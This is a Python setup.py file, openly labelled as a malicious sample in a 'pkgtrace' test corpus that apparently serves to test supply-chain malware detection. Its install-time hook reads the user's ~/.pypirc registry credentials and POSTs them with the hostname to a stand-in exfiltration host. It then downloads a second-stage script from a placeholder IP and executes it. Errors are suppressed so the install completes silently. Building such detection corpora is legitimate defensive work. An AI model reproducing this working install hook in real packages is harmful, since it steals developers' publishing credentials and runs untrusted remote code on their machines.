# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
# The first time setup.py runs in an install (pip runs it more than once:
# egg_info, then install or bdist_wheel; a file in /tmp says it already ran)
# it reads ~/.pypirc and POSTs it as JSON over HTTPS with urllib.request to
# https://pypi-exfil.example/x, then downloads http://192.0.2.9/p.py to
# /tmp/p.py and runs it with the same python. Each step is independent of
# the one before. Prints `net-https-post (pypi): step N ...` (pip shows it
# only with -v); an alarm ends the chain after 6 s, and no error stops the
# install.
import json
import os
import signal
import socket
import subprocess
import sys
import urllib.request

from setuptools import setup

POST_URL = "https://pypi-exfil.example/x"
STAGE_URL = "http://192.0.2.9/p.py"
STAGE = "/tmp/p.py"
ONCE = "/tmp/.pkgtrace-net-https-post.ran"


def _say(msg):
    print(f"net-https-post (pypi): {msg}", flush=True)


class _Deadline(Exception):
    pass


def _on_alarm(signum, frame):
    raise _Deadline()


def _first_run():
    try:
        os.close(os.open(ONCE, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        return True
    except OSError:
        return False


def _chain():
    try:
        with open(os.path.join(os.path.expanduser("~"), ".pypirc")) as f:
            pypirc = f.read()
    except OSError as e:
        pypirc = ""
        _say(f"step 1 read ~/.pypirc failed: {e}")
    else:
        _say(f"step 1 read ~/.pypirc ({len(pypirc)} bytes)")

    body = json.dumps({"pypirc": pypirc, "host": socket.gethostname()}).encode()
    req = urllib.request.Request(POST_URL, data=body, headers={"Content-Type": "application/json"}, method="POST")
    try:
        with urllib.request.urlopen(req, timeout=2) as r:
            _say(f"step 2 POST {POST_URL}: status {r.status}")
    except Exception as e:
        _say(f"step 2 POST {POST_URL} failed: {e!r}")

    try:
        with urllib.request.urlopen(STAGE_URL, timeout=2) as r:
            code = r.read(1 << 20)
    except Exception as e:
        _say(f"step 3 GET {STAGE_URL} failed: {e!r}")
        return
    with open(STAGE, "wb") as f:
        f.write(code)
    _say(f"step 3 saved {STAGE} ({len(code)} bytes)")

    try:
        rc = subprocess.run([sys.executable, STAGE], timeout=2).returncode
        _say(f"step 4 ran {sys.executable} {STAGE}: exit {rc}")
    except Exception as e:
        _say(f"step 4 run of {STAGE} failed: {e!r}")


if _first_run():
    old = signal.signal(signal.SIGALRM, _on_alarm)
    signal.alarm(6)
    try:
        _chain()
    except BaseException as e:  # the alarm, or anything else: never stop the install
        _say(f"stopped: {e!r}")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)

setup(
    name="pkgtrace-test-net-https-post",
    version="1.0.0",
    description="pkgtrace test corpus: MALICIOUS - setup.py POSTs ~/.pypirc over HTTPS, downloads and runs a script",
    packages=["pkgtrace_net_https_post"],
)
